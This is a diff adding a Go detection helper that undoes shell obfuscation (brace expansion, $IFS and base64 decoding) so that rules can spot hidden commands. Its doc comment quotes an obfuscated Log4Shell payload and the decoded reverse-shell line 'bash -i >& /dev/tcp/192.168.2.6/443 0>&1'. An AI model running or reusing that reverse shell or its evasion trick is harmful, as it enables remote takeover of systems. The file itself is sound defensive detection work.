@@ -1,0 +1,98 @@
+package detect
+
+import (
+	"encoding/base64"
+	"regexp"
+	"strings"
+	"unicode/utf8"
+)
+
+// Attackers keep a command free of blanks and of the words a rule looks
+// for, because it travels inside a URL parameter, a JNDI string or a
+// header: Log4Shell payloads run
+//
+//	bash -c {echo,YmFzaCAtaS…}|{base64,-d}|{bash,-i}
+//
+// which bash reads as `echo YmFzaCAtaS… | base64 -d | bash -i`, and whose
+// payload is `bash -i >& /dev/tcp/192.168.2.6/443 0>&1`. A rule matching
+// "base64 -d" or "/dev/tcp/" sees neither. shellForms returns what the
+// shell itself would read — brace groups in command position expanded,
+// $IFS read as the blank it is — and the text of base64 literals that the
+// command decodes. The rules see these forms beside the command as written
+// (a multi-valued field matches when any value does), so nothing that
+// matched before stops matching. Decoding is deterministic, so what it
+// yields is observed, not guessed; it is bounded (shellFormsMax literals,
+// shellFormsBytes bytes) so a hostile command cannot make it costly.
+const (
+	shellFormsMax   = 4
+	shellFormsBytes = 16 << 10
+)
+
+var (
+	// a brace group of words separated by commas, as a whole word: {a,b,c}
+	braceWord = regexp.MustCompile(`(^|[\s;|&(` + "`" + `])\{([^{}\s,]+(?:,[^{}\s,]*)+)\}`)
+	// $IFS, ${IFS}, $IFS$9, ${IFS%??}: the field separator, a blank
+	ifsWord = regexp.MustCompile(`\$\{IFS[^}]*\}|\$IFS(\$[0-9])?`)
+	// a base64 literal long enough to hide a command
+	b64Literal = regexp.MustCompile(`[A-Za-z0-9+/]{16,}={0,2}`)
+	// the command decodes base64 (after the forms above)
+	b64Decode = regexp.MustCompile(`base64\s+(-[a-zA-Z]*d|--decode)`)
+)
+
+// shellForms returns the forms of cmd other than cmd itself, nil when
+// there are none.
+func shellForms(cmd string) []string {
+	var out []string
+	read := cmd
+	if strings.ContainsRune(read, '{') {
+		read = braceWord.ReplaceAllStringFunc(read, func(m string) string {
+			i := strings.IndexByte(m, '{')
+			return m[:i] + strings.ReplaceAll(m[i+1:len(m)-1], ",", " ")
+		})
+	}
+	if strings.Contains(read, "IFS") {
+		read = ifsWord.ReplaceAllString(read, " ")
+	}
+	if read != cmd {
+		out = append(out, read)
+	}
+	if strings.Contains(read, "base64") && b64Decode.MatchString(read) {
+		n, size := 0, 0
+		for _, lit := range b64Literal.FindAllString(read, -1) {
+			if n == shellFormsMax || size > shellFormsBytes {
+				break
+			}
+			b, err := base64.StdEncoding.DecodeString(padBase64(lit))
+			if err != nil || len(b) == 0 || !printable(b) {
+				continue
+			}
+			s := strings.TrimSpace(string(b))
+			out = append(out, s)
+			n++
+			size += len(s)
+		}
+	}
+	return out
+}
+
+// padBase64 adds the padding a literal lost in the URL it came through.
+func padBase64(s string) string {
+	if m := len(s) % 4; m != 0 && !strings.HasSuffix(s, "=") {
+		return s + strings.Repeat("=", 4-m)
+	}
+	return s
+}
+
+// printable reports whether b is text a shell could run: valid UTF-8
+// without control characters other than tab and newline.
+func printable(b []byte) bool {
+	if !utf8.Valid(b) {
+		return false
+	}
+	for _, r := range string(b) {
+		if r < 0x20 && r != '\t' && r != '\n' && r != '\r' || r == 0x7f {
+			return false
+		}
+	}
+	return true
+}
